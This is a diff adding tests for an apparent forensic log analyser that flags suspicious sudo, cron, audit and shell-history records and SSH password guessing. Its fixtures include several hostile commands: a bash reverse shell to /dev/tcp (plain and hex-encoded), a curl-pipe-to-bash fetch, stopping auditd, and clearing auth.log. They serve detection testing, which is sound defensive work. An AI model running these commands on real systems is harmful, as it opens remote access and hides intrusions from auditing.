@@ -1,0 +1,97 @@
+/** Logs of hosts: the commands they record are judged as typed ones are, guessing is told with its records, and the rest is said. */
+import { expect, test } from 'vitest';
+import { judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';
+
+const judge = (lines: string[], name = 'auth.log') =>
+  judgeArtifact(readArtifact(Buffer.from(`${lines.join('\n')}\n`), name));
+const at = (second: number) =>
+  `Nov 28 10:${String(Math.floor(second / 60) % 60).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} web1`;
+const sudo = (command: string) =>
+  `${at(1)} sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=${command}`;
+const failed = (second: number, account: string, address: string) =>
+  `${at(second)} sshd[${1000 + second}]: Failed password for ${account} from ${address} port 3000 ssh2`;
+const accepted = (second: number, account: string, address: string) =>
+  `${at(second)} sshd[9999]: Accepted password for ${account} from ${address} port 5000 ssh2`;
+const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
+const storm = Array.from({ length: 100 }, (_, index) =>
+  failed(index, `invalid user u${index}`, `198.51.100.${index + 1}`),
+);
+
+test.each([
+  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'typed/reverse-shell'],
+  ['sudo', sudo('/usr/bin/systemctl stop auditd'), 'command/security-tool-stopped'],
+  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'typed/fetched-and-run'],
+  [
+    'the audit in syslog',
+    `${at(1)} audispd: type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')}`,
+    'typed/reverse-shell',
+  ],
+])('a command that %s recorded is judged, and cited by its line', (_who, record, rule) => {
+  const { findings, verdict } = judge([sudo('/bin/ls'), sudo('/bin/ls'), record]);
+  expect(findings.map((finding) => [finding.rule, finding.evidence[0]?.locator])).toEqual([[rule, 'line 3']]);
+  expect(verdict).not.toBe('benign');
+});
+
+test('arguments that the audit keeps in hexadecimal are read, in a log of its own too', () => {
+  const record = `type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="sh" a1="-c" a2=${hex('cat /dev/null > /var/log/auth.log')}`;
+  expect(judge([record], 'audit.log').findings[0]).toMatchObject({
+    rule: 'command/unix-log-cleared',
+    severity: 'high',
+  });
+});
+
+test('everyday commands of sudo and cron are benign', () => {
+  const { findings, verdict } = judge([
+    sudo('/usr/bin/systemctl status auditd'),
+    sudo('/usr/bin/apt-get update'),
+    sudo('/usr/bin/less /etc/rsyslog.conf'),
+    `${at(3)} CRON[812]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`,
+    `${at(4)} CRON[812]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`,
+  ]);
+  expect(findings).toEqual([]);
+  expect(verdict).toBe('benign');
+});
+
+test('a storm of guesses from many addresses, one of which then logs in, is a finding with both records', () => {
+  const { findings } = judge([...storm, accepted(200, 'root', '198.51.100.7')]);
+  const guessed = findings.find(({ rule }) => rule === 'login/guessed');
+  expect(guessed).toMatchObject({
+    severity: 'high',
+    title: expect.stringContaining('as root after 1 failure, of 100') as string,
+  });
+  expect(guessed?.evidence.map(({ locator }) => locator)).toEqual(['line 101', 'line 7']);
+});
+
+test('guessing that nobody lets in is low, from one address or from many', () => {
+  expect(judge(storm).findings.map(({ rule, severity }) => [rule, severity])).toEqual([['login/spraying', 'low']]);
+  const one = Array.from({ length: 40 }, (_, index) => failed(index, 'root', '198.51.100.7'));
+  expect(judge(one).findings.map(({ rule, severity }) => [rule, severity])).toEqual([['login/guessing', 'low']]);
+});
+
+test('repeated failures of one address count as often as they were, and a login after them was guessed', () => {
+  const repeated = `${at(2)} sshd[3]: message repeated 5 times: [ Failed password for root from 198.51.100.7 port 22 ssh2]`;
+  expect(judge([repeated, accepted(9, 'root', '198.51.100.7')]).findings[0]).toMatchObject({
+    rule: 'login/guessed',
+    title: expect.stringContaining('after 5 failures') as string,
+  });
+});
+
+test('somebody who mistypes a password in the midst of a storm is no intruder', () => {
+  const { findings } = judge([...storm, failed(150, 'root', '203.0.113.9'), accepted(160, 'root', '203.0.113.9')]);
+  expect(findings.map(({ rule }) => rule)).toEqual(['login/spraying']);
+});
+
+test('what is not judged of a log is said', () => {
+  const { not_checked } = judge([sudo('/bin/ls'), `${at(2)} kernel: usb 1-1: new device`]);
+  expect(not_checked).toContainEqual(expect.objectContaining({ what: 'what 1 of 2 records say' }));
+  const long = judge([sudo(`/bin/echo ${'a'.repeat(2_000)}; systemctl stop auditd`)]);
+  expect(long.not_checked).toContainEqual(expect.objectContaining({ what: 'the rest of 1 long records' }));
+  expect(long.verdict).not.toBe('benign');
+});
+
+test('many light findings do not push a grave one out', () => {
+  const light = Array.from({ length: 400 }, (_, index) => `crontab /srv/jobs${index}`);
+  const { findings, not_checked } = judge([...light, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '.bash_history');
+  expect(findings[0]).toMatchObject({ rule: 'typed/reverse-shell' });
+  expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lighter findings' }));
+});
